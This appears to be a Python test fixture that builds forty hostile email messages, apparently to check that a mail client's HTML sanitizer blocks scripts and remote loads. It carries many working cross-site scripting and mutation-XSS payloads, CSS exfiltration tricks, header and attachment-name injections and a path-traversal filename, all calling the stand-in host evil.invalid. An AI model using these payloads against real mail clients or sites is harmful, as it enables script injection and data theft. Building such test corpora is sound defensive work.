"""Forty mails that try to run something in whoever looks at them: by subject, names, HTML, attachments, fields.

What they want is always seen: they set window.pwned, open a dialog, or ask evil.invalid for something.
hostile_mails(sender, recipient) gives (name, octets) pairs; each is a whole message with CRLF.
"""
import base64

RUN = "window.pwned=1;top.pwned=1;parent.pwned=1;alert('pwned');fetch('https://evil.invalid/ran')"
AWAY = 'https://evil.invalid/'


def message(sender, recipient, subject='hostile', html=None, text='text', fields=(), attachments=(), from_name='', to_name=''):
    lines = [f'From: {from_name}<{sender}>', f'To: {to_name}<{recipient}>', f'Subject: {subject}', 'Date: Thu, 26 Nov 2026 12:00:00 +0000',
             'MIME-Version: 1.0', *fields]
    parts = [('text/plain; charset=utf-8', [], text)] if html is None else [('text/html; charset=utf-8', [], html)]
    if not attachments:
        lines += [f'Content-Type: {parts[0][0]}', 'Content-Transfer-Encoding: 8bit', '', parts[0][2]]
    else:
        lines += ['Content-Type: multipart/mixed; boundary="edge"', '']
        for kind, more, body in parts + list(attachments):
            lines += ['--edge', f'Content-Type: {kind}', *more, '', body]
        lines += ['--edge--', '']
    return '\r\n'.join('\r\n'.join(lines).splitlines()).encode() + b'\r\n'


def word(text):
    return '=?utf-8?b?' + base64.b64encode(text.encode()).decode() + '?='


# Bodies of HTML mail.
PAGES = {
    'script element': f'<script>{RUN}</script><p>hello</p>',
    'script from elsewhere': f'<script src="{AWAY}x.js"></script>',
    'script of our own origin': '<script src="/assets/main.js"></script><script type="module">import("/x.js")</script>',
    'image that fails': f'<img src=x onerror="{RUN}">',
    'image from elsewhere': f'<img src="{AWAY}open.gif"><img srcset="{AWAY}a.png 2x"><picture><source srcset="{AWAY}b.png"></picture>',
    'svg that loads': f'<svg onload="{RUN}"><script>{RUN}</script><image href="{AWAY}c.png"/></svg>',
    'svg animation': f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    'math that hides style': f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    'mutation by noscript': f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>">',
    'mutation by select': f'<select><template shadowrootmode=open><script>{RUN}</script></template><iframe srcdoc="<script>{RUN}</script>"></select>',
    'frame with document': f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    'frame by javascript': f'<iframe src="javascript:{RUN}"></iframe><iframe src="{AWAY}frame"></iframe>',
    'object and embed': f'<object data="{AWAY}o"></object><embed src="{AWAY}e"><applet code="{AWAY}a"></applet>',
    'meta refresh': f'<meta http-equiv="refresh" content="0;url={AWAY}"><meta http-equiv="Content-Security-Policy" content="default-src *">',
    'base': f'<base href="{AWAY}" target="_top"><img src="relative.png"><a href="x">x</a>',
    'link to a sheet': f'<link rel="stylesheet" href="{AWAY}s.css"><link rel="preload" as="image" href="{AWAY}p.png"><link rel="dns-prefetch" href="//evil.invalid">',
    'style that imports': f'<style>@import "{AWAY}i.css"; body {{ background: url({AWAY}bg.png) }} @font-face {{ font-family: f; src: url({AWAY}f.woff) }} p {{ font-family: f }}</style><p>x</p>',
    'style by attribute': f'<p style="background:url({AWAY}bg2.png);position:fixed;inset:0;list-style-image:url({AWAY}l.png);content:url({AWAY}c.png)">cover</p>',
    'style with escapes': f'<p style="background:u\\72l({AWAY}esc.png);width:expression({RUN})">x</p>',
    'style image-set': f'<p style="background-image:image-set(\'{AWAY}set.png\' 1x);--x:url({AWAY}v.png);background:var(--x)">x</p>',
    'style nested': f'<style>@media all {{ @supports (display: block) {{ p {{ background: url({AWAY}n.png) }} }} }} @layer a {{ p {{ cursor: url({AWAY}cur.png), auto }} }}</style><p>x</p>',
    'event handlers': f'<body onload="{RUN}" onfocus="{RUN}"><div onmouseover="{RUN}" onpointerenter="{RUN}" style="height:900px">x</div><input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}">x</details>',
    'links by javascript': f'<a href="javascript:{RUN}">click</a><a href="data:text/html,<script>{RUN}</script>" target="_top">click</a><area href="javascript:{RUN}">',
    'form': f'<form action="{AWAY}steal" method="post"><input name="csrf"><button formaction="javascript:{RUN}">ok</button></form><script>document.forms[0].submit()</script>',
    'audio and video': f'<video src="{AWAY}v.mp4" poster="{AWAY}poster.png" autoplay onerror="{RUN}"></video><audio src="{AWAY}a.mp3" autoplay></audio>',
    'clobbering': '<form id="app"><input name="contentDocument"></form><img name="body"><a id="location" href="x"></a><p id="main">x</p>',
    'comment and cdata': f'<!--[if gte mso 9]><script>{RUN}</script><![endif]--><![CDATA[<script>{RUN}</script>]]><xmp><script>{RUN}</script></xmp>',
    'custom elements': f'<x-a onclick="{RUN}" is="x-b"><slot onslotchange="{RUN}"></slot></x-a><div contenteditable popover id=p></div><button popovertarget=p autofocus onfocus="{RUN}">x</button>',
    'data image with script': '<img src="data:image/svg+xml;base64,' + base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode() + '">',
    'depth': '<div>' * 3000 + f'<img src=x onerror="{RUN}">',
    'utf-7 and nulls': f'+ADw-script+AD4-{RUN}+ADw-/script+AD4-<scr\u200bipt>{RUN}</script><img/src=x/onerror={RUN!r}>',
}
# Texts that stand in fields and lists.
TAGS = f'</title></textarea></td><img src=x onerror="{RUN}"><script>{RUN}</script>'


def hostile_mails(sender, recipient):
    mails = [(name, message(sender, recipient, f'hostile: {name}', html)) for name, html in PAGES.items()]
    plain = {
        'subject': dict(subject=TAGS),
        'subject encoded': dict(subject=word(TAGS)),
        'sender name': dict(from_name=word(f'"{TAGS}"') + ' '),
        'recipient name': dict(to_name=word(TAGS) + ' '),
        'text body': dict(text=TAGS + '\r\n{{constructor.constructor("alert(1)")()}} ${alert(1)}'),
        'right to left and line ends': dict(subject=word('\u202eexe.fdp\u2028\u2029\u0000 invoice')),
        'fields': dict(fields=[f'X-Tag: {TAGS}', f'X-Metadata-Order: {TAGS}', f'Reply-To: {word(TAGS)} <a@evil.invalid>', f'List-Unsubscribe: <javascript:{RUN}>']),
        'attachment names': dict(attachments=[
            (f'text/html; name="{TAGS.replace(chr(34), chr(39))}"', [f'Content-Disposition: attachment; filename="{TAGS.replace(chr(34), chr(39))}"'], f'<script>{RUN}</script>'),
            ('image/svg+xml; name="../../etc/passwd"', ['Content-Disposition: attachment; filename*=utf-8\'\'%3Cscript%3Ealert(1)%3C%2Fscript%3E.svg'], f'<svg onload="{RUN}"/>')]),
        'inline part with script': dict(html='<img src="cid:one"><img src="cid:two">', attachments=[
            ('image/svg+xml', ['Content-ID: <one>', 'Content-Disposition: inline'], f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'),
            ('image/png', ['Content-ID: <two>', 'Content-Disposition: inline'], f'<script>{RUN}</script>')]),
    }
    mails += [(name, message(sender, recipient, **{'subject': f'hostile: {name}', **more})) for name, more in plain.items()]
    return mails
